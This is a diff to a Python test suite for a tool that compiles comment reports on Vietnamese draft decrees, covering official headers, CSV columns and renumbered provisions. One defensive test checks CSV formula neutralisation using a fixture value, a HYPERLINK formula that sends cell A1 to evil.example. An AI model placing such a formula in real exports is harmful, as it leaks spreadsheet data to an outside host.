@@ -135,6 +135,28 @@ class ReportTest(clitest.TestCase):
         # The same dossier gives the same bytes.
         self.assertEqual(self.report().out, r.out)
 
+    def test_the_official_header_and_the_signature_block(self):
+        """Issue 13, item 11: Quốc hiệu, Tiêu ngữ, the agency, số/ký hiệu with a
+        blank, place and date; the signature block, as the decree has."""
+        out = self.report().out
+        pre = out[out.index("<preface>"):out.index("</preface>")]
+        for want in ('<p class="republic">CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM</p>',
+                     '<p class="motto">Độc lập - Tự do - Hạnh phúc</p>',
+                     '<p class="docNumber">Số: ……/BC-……</p>',
+                     '<p class="placeAndDate">……, ngày 15 tháng 7 năm 2025</p>',
+                     '<organization refersTo="#moc">Bộ Xây dựng</organization>'):
+            self.assertIn(want, pre)
+        con = out[out.index("<conclusions>"):out.index("</conclusions>")]
+        self.assertIn('<p class="heading">Nơi nhận:</p>', con)
+        self.assertIn('<p class="sign">(Ký, ghi rõ họ tên và đóng dấu)</p>', con)
+        self.assertIn('<p class="agency">Bộ Xây dựng</p>', con)
+        html = self.report("--format", "html").out
+        for want in ("CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM", "Độc lập - Tự do - Hạnh phúc", "Số: ……/BC-……",
+                     "……, ngày 15 tháng 7 năm 2025", "Nơi nhận:", "(Ký, ghi rõ họ tên và đóng dấu)"):
+            self.assertIn(want, html)
+        self.assertLess(html.index("CỘNG HÒA"), html.index("<h1"))
+        self.assertLess(html.index("II. Tổng hợp"), html.index("Nơi nhận:"))
+
     def test_akn_statuses_in_the_latest_revision(self):
         out = self.report().out
         groups = re.findall(r'<p class="provisionId">([^<]+)</p>.*?refersTo="#status-([a-z-]+)"', out, re.S)
@@ -143,7 +165,7 @@ class ReportTest(clitest.TestCase):
             ("art_2__para_1", "changed"),
             ("art_2__para_2__point_b", "unchanged"),
             ("art_3", "unchanged"),
-            ("art_4", "deleted-or-renumbered"),
+            ("art_4", "deleted"),
             ("general", "general"),
         ])
 
@@ -167,8 +189,8 @@ class ReportTest(clitest.TestCase):
         import csv
         import io
         rows = list(csv.reader(io.StringIO(got.decode("utf-8-sig"), newline="")))
-        self.assertEqual(len(rows[0]), 12)
-        self.assertEqual(sorted(row[4] for row in rows[1:]), sorted(IDS))
+        self.assertEqual(len(rows[0]), 15)
+        self.assertEqual(sorted(row[6] for row in rows[1:]), sorted(IDS))
         self.assertEqual([row[0] for row in rows[1:]], [str(i) for i in range(1, len(IDS) + 1)])
 
     def test_csv_cells_a_spreadsheet_would_evaluate_are_neutralised(self):
@@ -177,10 +199,10 @@ class ReportTest(clitest.TestCase):
         import csv
         import io
         rows = list(csv.reader(io.StringIO(r.out.lstrip("\ufeff"), newline="")))
-        row = [x for x in rows if x[4] == "pub-3"][0]
-        self.assertEqual(row[5], "'@Lê Văn Cường")
-        self.assertEqual(row[6], "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Xem chi tiết\")")
-        self.assertEqual(row[7], "'- Bộ Xây dựng chủ trì;\n- Bộ Tài chính phối hợp.")
+        row = [x for x in rows if x[6] == "pub-3"][0]
+        self.assertEqual(row[7], "'@Lê Văn Cường")
+        self.assertEqual(row[8], "'=HYPERLINK(\"http://evil.example/?d=\"&A1,\"Xem chi tiết\")")
+        self.assertEqual(row[9], "'- Bộ Xây dựng chủ trì;\n- Bộ Tài chính phối hợp.")
         # no cell of the whole file begins with what Excel or LibreOffice evaluates
         for row in rows:
             for cell in row:
@@ -326,6 +348,142 @@ class ReportTest(clitest.TestCase):
         r = run("-C", repo, "report", "--format", "csv")
         self.assertExit(r, 0)
         self.assertEqual(len(r.out.strip().splitlines()), 1)
+
+
+def renumber_drafts():
+    """v1 of ten articles; v2 inserts a new Điều 4 and takes in the proposal
+    for (old) Điều 5 khoản 2 điểm đ, now Điều 6 khoản 2 điểm đ."""
+    def arts(insert):
+        out = []
+        for n in range(1, 11):
+            k = n + 1 if insert and n >= 4 else n   # the article's number in this draft
+            if insert and n == 4:
+                out.append("Điều 4. Giải thích từ ngữ\nTrong Nghị định này, các từ ngữ được hiểu như sau.\n")
+            if n == 5:
+                out.append("Điều %d. Yêu cầu đối với hệ thống\n1. Hệ thống bảo đảm an toàn.\n"
+                           "2. Hệ thống đáp ứng các yêu cầu sau:\na) Kết nối liên thông;\nb) Chia sẻ dữ liệu;\n"
+                           "c) Bảo mật thông tin;\nd) Dễ sử dụng;\n%s\n"
+                           % (k, ADOPTED if insert else "đ) Có nhật ký truy cập."))
+            elif n == 9:
+                out.append("Điều %d. Trách nhiệm của các bộ\n1. Bộ Xây dựng chủ trì.\n"
+                           "2. Bộ Tài chính bảo đảm kinh phí.\n3. Bộ Công an bảo đảm an ninh dữ liệu.\n" % k)
+            else:
+                out.append("Điều %d. Quy định thứ %d\nNội dung của quy định thứ %d.\n" % (k, n, n))
+        return "NGHỊ ĐỊNH\nQuy định thử nghiệm đánh số lại\n" + "".join(out)
+    return arts(0), arts(1)
+
+
+ADOPTED = "đ) Có nhật ký truy cập, lưu trữ tối thiểu 12 tháng."
+
+
+class RenumberedReportTest(clitest.TestCase):
+    """Issue 13, item 1: after v2 inserts a new Điều 4, the report, its CSV
+    and HTML, and the consolidated draft's notes follow each provision to
+    its new number, by the same mechanism as `comments --revision v1`."""
+
+    def setUp(self):
+        super().setUp()
+        self.repo = self.path("dossier")
+        v1, v2 = renumber_drafts()
+        f1, f2 = self.write("v1.txt", v1), self.write("v2.txt", v2)
+        self.assertExit(run("--as", "moc", "--now", "2025-06-20T09:00", "init", self.repo, "--workflow", WF), 0)
+        self.act("moc", "2025-06-25T10:00", "revise", f1)
+        self.act("moc", "2025-06-26T08:00", "advance", "comment")
+        self.act("most", "2025-07-01T09:00", "comment", "--on", "art_5__para_2__point_dd",
+                 "--text", "Đề nghị quy định thời hạn lưu trữ.", "--propose", ADOPTED)
+        self.act("mof", "2025-07-01T10:00", "comment", "--on", "art_9__para_3", "--text", "Đề nghị bỏ khoản 3.")
+        self.act("hanoi", "2025-07-01T11:00", "comment", "--on", "art_3", "--text", "Nhất trí Điều 3.")
+        self.act("fpt", "2025-07-01T12:00", "comment", "--on", "art_7", "--text", "Nhất trí Điều 7.")
+        # accepted, but v2 does not take it in: the consolidated draft does
+        self.act("most", "2025-07-01T13:00", "comment", "--on", "art_9__para_2", "--text", "Bổ sung hướng dẫn.",
+                 "--propose", "2. Bộ Tài chính bảo đảm kinh phí và hướng dẫn thực hiện.")
+        self.act("moc", "2025-07-10T08:00", "advance", "finishing")
+        answers = self.write("answers.csv",
+                             "comment,disposition,reason\n"
+                             "most-1,tiếp thu,Tiếp thu.\n"
+                             "mof-1,giải trình,Giữ nguyên để bảo đảm an ninh dữ liệu.\n"
+                             "hanoi-1,ghi nhận,Ghi nhận.\n"
+                             "fpt-1,note,Ghi nhận.\n"
+                             "most-2,accept,Tiếp thu.\n")
+        self.act("moc", "2025-07-11T09:00", "respond", "--file", answers)
+        self.act("moc", "2025-07-15T15:00", "revise", f2)
+
+    def act(self, who, when, *args):
+        r = run("-C", self.repo, "--as", who, "--now", when, *args)
+        self.assertExit(r, 0)
+        return r
+
+    # comment id -> (citation commented on, citation in v2, status)
+    WANT = {
+        "hanoi-1": ("Điều 3", "Điều 3", "unchanged", "Giữ nguyên"),
+        "most-1": ("Điều 5 khoản 2 điểm đ", "Điều 6 khoản 2 điểm đ", "changed", "Đã sửa đổi"),
+        "fpt-1": ("Điều 7", "Điều 8", "unchanged", "Giữ nguyên"),
+        "mof-1": ("Điều 9 khoản 3", "Điều 10 khoản 3", "unchanged", "Giữ nguyên"),
+        "most-2": ("Điều 9 khoản 2", "Điều 10 khoản 2", "unchanged", "Giữ nguyên"),
+    }
+
+    def test_csv_shows_both_citations_and_the_right_status(self):
+        import csv
+        import io
+        r = run("-C", self.repo, "report", "--format", "csv")
+        self.assertExit(r, 0)
+        rows = list(csv.reader(io.StringIO(r.out.lstrip("\ufeff"), newline="")))
+        head = rows[0]
+        col = {name: head.index(name) for name in ("Mã ý kiến", "Điều khoản", "Dự thảo góp ý",
+                                                   "Điều khoản trong dự thảo mới nhất",
+                                                   "Tình trạng trong dự thảo mới nhất", "Ý kiến tiếp thu")}
+        got = {row[col["Mã ý kiến"]]: row for row in rows[1:]}
+        self.assertEqual(sorted(got), sorted(self.WANT))
+        for cid, (was, now, _, label) in self.WANT.items():
+            row = got[cid]
+            self.assertEqual((row[col["Điều khoản"]], row[col["Dự thảo góp ý"]],
+                              row[col["Điều khoản trong dự thảo mới nhất"]],
+                              row[col["Tình trạng trong dự thảo mới nhất"]]), (was, "v1", now, label), cid)
+        self.assertEqual(got["mof-1"][col["Ý kiến tiếp thu"]], "Không tiếp thu (giải trình)")
+        self.assertEqual(got["hanoi-1"][col["Ý kiến tiếp thu"]], "Ghi nhận")
+        self.assertNotIn("Đã bỏ", r.out)
+
+    def test_akn_and_html_follow_renumbering(self):
+        r = run("-C", self.repo, "report")
+        self.assertExit(r, 0)
+        out = self.path("report.xml")
+        with open(out, "w", encoding="utf-8") as f:
+            f.write(r.out)
+        self.assertValidAkn(out)
+        groups = re.findall(r'<p class="provisionId">([^<]+)</p>.*?refersTo="#status-([a-z-]+)".*?'
+                            r'<p class="nowCitation">([^<]+)</p>', r.out, re.S)
+        self.assertEqual(groups, [("art_3", "unchanged", "Điều 3"),
+                                  ("art_5__para_2__point_dd", "changed", "Điều 6 khoản 2 điểm đ"),
+                                  ("art_7", "unchanged", "Điều 8"),
+                                  ("art_9__para_2", "unchanged", "Điều 10 khoản 2"),
+                                  ("art_9__para_3", "unchanged", "Điều 10 khoản 3")])
+        h = run("-C", self.repo, "report", "--format", "html")
+        self.assertExit(h, 0)
+        self.assertIn("nay là Điều 6 khoản 2 điểm đ (art_6__para_2__point_dd)", h.out)
+        self.assertIn("nay là Điều 10 khoản 3 (art_10__para_3)", h.out)
+
+    def test_the_same_as_comments_revision(self):
+        carried = run("-C", self.repo, "comments", "--json", "--revision", "v1").json()
+        now = {c["id"]: c["now"]["citation"] for c in carried}
+        self.assertEqual(now, {cid: w[1] for cid, w in self.WANT.items()})
+
+    def test_consolidated_notes_follow_renumbering(self):
+        r = run("-C", self.repo, "consolidate")
+        self.assertExit(r, 0)
+        out = self.path("consolidated.xml")
+        with open(out, "w", encoding="utf-8") as f:
+            f.write(r.out)
+        self.assertValidAkn(out)
+        # most-1's text is in v2 already: nothing to apply; most-2's is put
+        # into Điều 10 khoản 2, the old Điều 9 khoản 2, never into the new Điều 9
+        self.assertNotIn('note-most-1"', r.out)
+        note = re.search(r'<note eId="note-most-2"[^>]*placementBase="([^"]+)"[^>]*>(.*?)</note>', r.out, re.S)
+        self.assertIsNotNone(note, r.out)
+        self.assertEqual(note.group(1), "art_10__para_2")
+        text = re.sub(r"<[^>]+>", "", note.group(2))
+        self.assertIn("về Điều 9 khoản 2 của dự thảo v1, nay là Điều 10 khoản 2", text)
+        self.assertIn("Bộ Tài chính bảo đảm kinh phí và hướng dẫn thực hiện.", r.out)
+        self.assertIn("Nội dung của quy định thứ 8.", r.out)   # the new Điều 9 as it was
 
 
 if __name__ == "__main__":
